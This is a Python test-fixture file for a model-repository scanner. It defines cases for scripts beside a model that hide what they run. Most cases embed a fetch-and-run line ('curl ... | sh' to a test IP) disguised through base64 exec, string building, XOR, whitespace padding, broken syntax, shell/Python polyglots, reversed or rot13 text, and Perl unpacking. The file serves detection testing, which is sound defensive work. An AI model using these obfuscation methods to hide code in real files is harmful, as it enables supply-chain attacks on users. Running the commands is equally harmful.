"""Scripts beside a model that hide what they run: by how a name or a text is put together, by where it stands, by not being well-formed
Python, or by being two languages at once; and scripts that only look so.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from functools import partial
from typing import Final, Literal

from openvet.testing.case import Case
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_Decision = Literal["admit", "review", "reject"]
_MODEL: Final[Mapping[str, bytes]] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
_FETCH: Final = "curl -s http://203.0.113.1/forged | sh"
_CODE: Final = "import os; os.system('echo forged')"
_PACKED: Final = base64.b64encode(_CODE.encode()).decode()
_PYTHON, _SHELL, _HIDDEN, _PROCESS = (
    "hub/python-code",
    "hub/shell-command",
    "python/hidden-code",
    "python/process-at-load",
)


def _files(name: str, text: str) -> Mapping[str, bytes]:
    return {**_MODEL, name: text.encode()}


def _python(name: str, what: str, text: str, *rules: str, decision: _Decision = "reject") -> Case:
    return Case(
        f"hidden-scripts/{name}",
        f"Python of a server: {what}",
        partial(_files, "inference.py", text),
        decision,
        frozenset(rules),
        ("python",),
    )


def _shell(name: str, what: str, text: str, *rules: str, decision: _Decision = "reject") -> Case:
    return Case(f"hidden-scripts/{name}", f"a shell script: {what}", partial(_files, "run.sh", f"#!/bin/sh\n{text}\n"), decision, frozenset(rules),
                ("shell",))  # fmt: skip


CASES: tuple[Case, ...] = (
    _python("eval-gives-exec", "a name that eval gives is called", f"import base64\neval('ex' + 'ec')(base64.b64decode('{_PACKED}'))\n", _PYTHON, _HIDDEN, _PROCESS),
    _python("xor", "text whose characters are changed runs", "k = 7\nd = bytes([c ^ k for c in b'abc'])\nexec(d)\n", _PYTHON, _HIDDEN),
    _python("characters", "text of single characters runs", "exec(''.join([chr(c - 1) for c in [106, 110]]))\n", _PYTHON, _HIDDEN),
    _python("characters-loop", "text that a loop puts together runs", "d = ''\nfor c in [106, 110]:\n    d += chr(c - 1)\nexec(d)\n", _PYTHON, _HIDDEN),
    _python("characters-list", "text that a list gathers runs", "d = []\nfor c in [106, 110]:\n    d.append(chr(c - 1))\nexec(''.join(d))\n", _PYTHON, _HIDDEN),
    _python("far-right", "a command far to the right", f"import json{' ' * 3000}; import os; os.system('{_FETCH}')\n", _PYTHON, _PROCESS),
    _python("python-2", "Python 2", f"import os\nprint 'loading', 1\nos.system('{_FETCH}')\n", _PYTHON, _PROCESS, _SHELL),
    _python("python-2-exec", "Python 2 that runs what it decodes", f"import base64\nexec base64.b64decode('{_PACKED}')\n", _PYTHON, _HIDDEN, _PROCESS),
    _python("broken-before", "a line that cannot be parsed before it", f"def f(:\n    pass\nimport os\nos.system('{_FETCH}')\n", _PYTHON, _PROCESS, _SHELL),
    _python("broken-behind", "a line that cannot be parsed behind it", f"import os\nos.system('{_FETCH}')\nx = = 1\n", _PYTHON, _PROCESS, _SHELL),
    _python("null", "a null character behind it", f"import os\nos.system('{_FETCH}')\n\0\n", _PYTHON, _PROCESS, _SHELL),
    _python("also-shell", "a text in front that a shell runs", f"''':'\n{_FETCH}\nexit\n'''\nimport json\n", _SHELL),
    _python("also-shell-exec", "a first line that a shell runs", f'"exec" "sh" "-c" "{_FETCH}"\nimport json\n', _SHELL),
    _python("also-shell-only", "nothing but a shell script", f"#!/bin/sh\n{_FETCH}\n", _SHELL, _PYTHON),
    _python("ordinary-xor", "bits are counted, and nothing runs", "def parity(bits):\n    x = 0\n    for b in bits:\n        x ^= b\n    return chr(48 + x)\n", decision="admit"),
    _python("ordinary-docstring", "a text that says how to install something", f'"""Install with\n\n    {_FETCH}\n"""\nimport json\n', decision="admit"),
    _shell("escapes", "escapes that are printed into a shell", "printf '\\x65\\x63\\x68\\x6f' | sh", _SHELL),
    _shell("variables", "a command out of two variables", "a=cu;b=rl\n$a$b -s http://203.0.113.1/x | sh", _SHELL),
    _shell("variable-address", "the address in a variable", "U=http://203.0.113.1/x\ncurl -s \"$U\" | sh", _SHELL),
    _shell("backslashes", "backslashes inside of words", "c\\url -s http://203.0.113.1/x | s\\h", _SHELL),
    _shell("backwards", "a command backwards", "echo 'hs | x/1.311.0.302//:ptth s- lruc' | rev | sh", _SHELL),
    _shell("rotated", "a command with other letters", "echo 'phey -f uggc://203.0.113.1/k | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh", _SHELL),
    _shell("shell-far-right", "a command far to the right", f"echo loading{' ' * 5000}; {_FETCH}", _SHELL),
    _shell("python-line", "a line of Python that runs what it decodes", f"python3 -c \"import base64;exec(base64.b64decode('{_PACKED}'))\"", _SHELL),
    _shell("python-text", "a text of Python that runs what it decodes", f"python3 - <<EOF\nimport base64\nexec(base64.b64decode('{_PACKED}'))\nEOF", _SHELL),
    _shell("perl", "a line of Perl that runs what it unpacks", "perl -e 'system(pack(\"H*\",\"6563686f\"))'", _SHELL),
    _shell("ordinary-python", "lines and texts of Python that compute", "python3 -c 'import torch; print(torch.__version__)'\npython3 - <<EOF\nimport json\nprint(1)\nEOF",
           decision="admit"),
    _shell("ordinary-tr", "letters are changed, and nothing runs", "NAME=$(echo \"$MODEL\" | tr 'A-Z' 'a-z' | rev)\nprintf '\\x1b[0m'\nOUT=out\nmkdir -p $OUT | tee log",
           decision="admit"),
)  # fmt: skip
